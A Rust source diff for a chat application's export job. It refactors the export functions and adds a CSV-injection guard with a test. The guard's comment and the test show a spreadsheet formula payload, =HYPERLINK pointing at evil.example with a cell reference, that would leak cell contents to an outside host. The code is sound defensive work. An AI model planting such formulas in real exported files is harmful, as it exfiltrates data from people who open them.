@@ -13,7 +13,7 @@ use confab_shared::{ExportFormat, Message};
 use tokio_util::sync::CancellationToken;
 
 use super::runner::Progress;
-use crate::state::AppState;
+use crate::layer::ChannelLayer;
 use crate::storage::entity::jobs as job_entity;
 use crate::storage::{Db, exports, jobs, messages, rooms};
 
@@ -53,14 +53,14 @@ pub fn extension(format: &ExportFormat) -> &'static str {
 }
 
 /// Runs the export; returns what the job row's `file` records ([`exports::IN_DATABASE`]).
-pub async fn run(state: &AppState, job: &job_entity::Model, stop: &CancellationToken) -> Result<String, ExportError> {
-    if !jobs::start(&state.db, job.id).await? {
+pub async fn run(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop: &CancellationToken) -> Result<String, ExportError> {
+    if !jobs::start(db, job.id).await? {
         return Err(ExportError::Gone);
     }
-    match write(state, job, stop).await {
+    match write(db, layer, job, stop).await {
         Ok(()) => Ok(exports::IN_DATABASE.to_owned()),
         Err(err) => {
-            discard(&state.db, job.id).await;
+            discard(db, job.id).await;
             Err(err)
         }
     }
@@ -112,8 +112,7 @@ impl<'a> ChunkWriter<'a> {
     }
 }
 
-async fn write(state: &AppState, job: &job_entity::Model, stop: &CancellationToken) -> Result<(), ExportError> {
-    let db = &state.db;
+async fn write(db: &Db, layer: &dyn ChannelLayer, job: &job_entity::Model, stop: &CancellationToken) -> Result<(), ExportError> {
     let format = jobs::format_of(job);
     let room = rooms::by_name(db, &job.room).await?.ok_or_else(|| ExportError::Failed(anyhow::anyhow!("room {} is gone", job.room)))?;
     let (total, newest) = messages::extent(db, room.id).await?;
@@ -134,7 +133,7 @@ async fn write(state: &AppState, job: &job_entity::Model, stop: &CancellationTok
         let rows = page.len() as u64;
         let wire = messages::to_wire(db, page).await?;
         out.write(&encoder.page(&wire)?).await?;
-        progress.advance(state, rows).await?;
+        progress.advance(db, layer, rows).await?;
     }
     out.write(encoder.end()).await?;
     // Every chunk is committed before the row says "done".
@@ -167,7 +166,7 @@ impl Encoder {
             for m in page {
                 let edited = m.edited_at.map(|t| t.to_string()).unwrap_or_default();
                 let record = [&m.id.to_string(), &m.room, &m.author, &m.text, &m.sent_at.to_string(), &edited, &m.deleted.to_string()];
-                csv.write_record(record).map_err(|e| ExportError::Failed(e.into()))?;
+                csv.write_record(record.map(|cell| inert_cell(cell)).iter().map(|cell| cell.as_bytes())).map_err(|e| ExportError::Failed(e.into()))?;
             }
             return csv.into_inner().map_err(|e| ExportError::Failed(anyhow::anyhow!("{e}")));
         }
@@ -186,6 +185,19 @@ impl Encoder {
             (false, true) => b"]\n",
             (false, false) => b"\n]\n",
         }
+    }
+}
+
+/// A CSV cell a spreadsheet will show as text, never evaluate (OWASP's "CSV injection"
+/// rule): one starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
+/// `'`, which spreadsheets hide and which stops them reading a formula. A message text of
+/// `=HYPERLINK("https://evil.example?"&A1, "click")` would otherwise become a live formula
+/// in the reader's spreadsheet. Only text cells can start so (ids and times never do).
+fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
     }
 }
 
@@ -240,5 +252,22 @@ mod tests {
         assert_eq!(&rows[1][4], "2023-11-14T22:13:20.000Z");
         assert_eq!(&rows[1][5], "");
         assert_eq!(&rows[1][6], "false");
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote() {
+        let texts = ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"https://evil.example\")"];
+        let page: Vec<Message> = texts.iter().enumerate().map(|(i, t)| message(i as i64 + 1, t)).collect();
+        let mut author = message(99, "a - b = c, plain");
+        author.author = "-ann".into();
+        let text = encode(ExportFormat::Csv, &[&page, &[author]]);
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for (row, original) in rows.iter().zip(texts) {
+            assert_eq!(&row[3], format!("'{original}"), "{original:?}");
+        }
+        let last = rows.last().unwrap();
+        assert_eq!((&last[2], &last[3]), ("'-ann", "a - b = c, plain"), "only the start of a cell counts");
+        assert_eq!(&last[0], "99");
     }
 }
